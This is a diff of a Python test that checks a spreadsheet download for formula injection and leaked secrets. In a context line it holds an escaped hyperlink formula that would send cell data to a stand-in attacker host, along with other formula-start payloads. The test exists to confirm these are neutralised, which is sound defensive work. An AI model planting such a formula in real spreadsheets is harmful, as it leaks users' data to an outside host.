@@ -137,7 +137,7 @@ def test_no_cell_of_a_download_is_a_formula_or_a_secret(
     assert [cell for cell in cells if cell.lstrip(" \n\u00a0\u200b\u2060\ufeff").startswith(FORMULA_STARTS)] == []
     assert {'\'=HYPERLINK("https://evil.example/?"&A1, "open")', "'+1-2", "'@SUM(1+1)"} <= set(cells)
     assert [secret for secret in RAW_SECRETS if secret in json.dumps(rows)] == []
-    assert {str(number) for number in hevo.fleet.ids if number} <= {row["number"] for row in rows}
+    assert {str(number) for number in hevo.fleet.ids if number} <= set(cells)
 
 
 def test_a_hostile_link_is_only_text(dashboard: Dashboard, page: Page) -> None:
